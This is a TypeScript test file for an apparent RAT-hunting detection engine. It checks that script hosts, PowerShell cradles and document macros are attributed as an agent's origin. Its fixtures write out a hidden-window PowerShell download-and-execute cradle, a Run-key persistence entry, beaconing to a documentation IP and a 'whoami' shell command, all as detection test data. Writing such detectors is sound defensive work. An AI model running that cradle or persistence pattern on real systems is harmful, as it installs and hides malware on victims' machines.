// The agent is the agent: a stager (a script host, PowerShell, a document's macro) that
// downloaded, wrote or started it is its origin, shown as such, never one of its images, and a
// stager raises the severity.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { builtinCatalog } from '../../../src/catalog/index.ts';
import { configSchema } from '../../../src/config/schema.ts';
import { createEngine } from '../../../src/engine/engine.ts';
import type { RatEvent } from '../../../src/model/event.ts';
import type { Finding } from '../../../src/model/finding.ts';
import { at, byTime, conn, conns, fileCreate, proc, regSet } from '../../support/events.ts';

const W = 'C:\\Windows\\System32';
const PS = `${W}\\WindowsPowerShell\\v1.0\\powershell.exe`;
const WSCRIPT = `${W}\\wscript.exe`;
const AGENT = 'C:\\ProgramData\\Helper\\helper.exe';
const RUN = 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Helper';

function hunt(events: RatEvent[], minSteps = 3): Finding[] {
  const engine = createEngine(configSchema.parse({ MinSteps: minSteps }), builtinCatalog());
  for (const e of events) engine.push(e);
  return engine.finish();
}

/** The agent's own life: a Run key for itself, a beacon, a shell for the operator. */
const agentLife = (): RatEvent[] => [
  regSet({ guid: 'G', image: AGENT, key: RUN, data: `"${AGENT}"`, at: at(1) }),
  ...conns({
    guid: 'G',
    image: AGENT,
    srcIp: '10.1.2.3',
    dstIp: '198.51.100.40',
    dstPort: 8443,
    n: 6,
    at: at(1, 10),
  }),
  proc({
    guid: 'C',
    parentGuid: 'G',
    parentImage: AGENT,
    image: `${W}\\cmd.exe`,
    commandLine: 'cmd.exe /c whoami',
    at: at(4),
  }),
];

describe("the agent's origin", () => {
  test('a script host and a PowerShell cradle that fetched and started it are its origin, not its images', () => {
    const cradle = `powershell.exe -nop -w hidden -c "(New-Object Net.WebClient).DownloadFile('http://198.51.100.23/h.exe','${AGENT}');Start-Process '${AGENT}'"`;
    const events = byTime(
      proc({
        guid: 'S',
        image: WSCRIPT,
        commandLine: `"${WSCRIPT}" C:\\Users\\li\\Downloads\\invoice.js`,
        at: at(0),
      }),
      proc({
        guid: 'P',
        parentGuid: 'S',
        parentImage: WSCRIPT,
        image: PS,
        commandLine: cradle,
        at: at(0, 1),
      }),
      conn({ guid: 'P', image: PS, srcIp: '10.1.2.3', dstIp: '198.51.100.23', dstPort: 80, at: at(0, 2) }),
      fileCreate({ guid: 'P', image: PS, path: AGENT, at: at(0, 3) }),
      proc({ guid: 'G', parentGuid: 'P', parentImage: PS, image: AGENT, at: at(0, 4) }),
      agentLife(),
    );
    const f = hunt(events).find((x) => x.agent.images.includes(AGENT));
    assert.ok(f);
    assert.deepEqual(f.agent.images, [AGENT]);
    assert.deepEqual(
      f.agent.origin?.map((o) => [o.image, o.how]),
      [
        [PS, 'downloaded'],
        [WSCRIPT, 'started'],
      ],
    );
    assert.ok(f.reasons.some((r) => r.code === 'stager_origin' && r.delta === 10));
    const s1 = f.steps.find((s) => s.step === 'execution')!;
    assert.ok(
      s1.evidence.every((e) => e.process?.image === AGENT),
      'S1 is the agent starting, not the stager',
    );
  });

  test('a program the user started from the desktop has no origin and no stager reason', () => {
    const events = byTime(
      proc({ guid: 'G', parentGuid: 'E', parentImage: 'C:\\Windows\\explorer.exe', image: AGENT, at: at(0) }),
      agentLife(),
    );
    const f = hunt(events).find((x) => x.agent.images.includes(AGENT))!;
    assert.equal(f.agent.origin, undefined);
    assert.ok(!f.reasons.some((r) => r.code === 'stager_origin'));
  });

  test("a document's macro that started a shell is not an agent for doing so", () => {
    const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
    const events = byTime(
      proc({ guid: 'D', image: WORD, at: at(0) }),
      proc({
        guid: 'X',
        parentGuid: 'D',
        parentImage: WORD,
        image: `${W}\\cmd.exe`,
        commandLine: 'cmd /c whoami',
        at: at(0, 5),
      }),
      proc({
        guid: 'Y',
        parentGuid: 'D',
        parentImage: WORD,
        image: PS,
        commandLine: 'powershell -c Get-Date',
        at: at(0, 9),
      }),
    );
    assert.ok(!hunt(events, 2).some((f) => f.agent.images.includes(WORD)));
  });
});
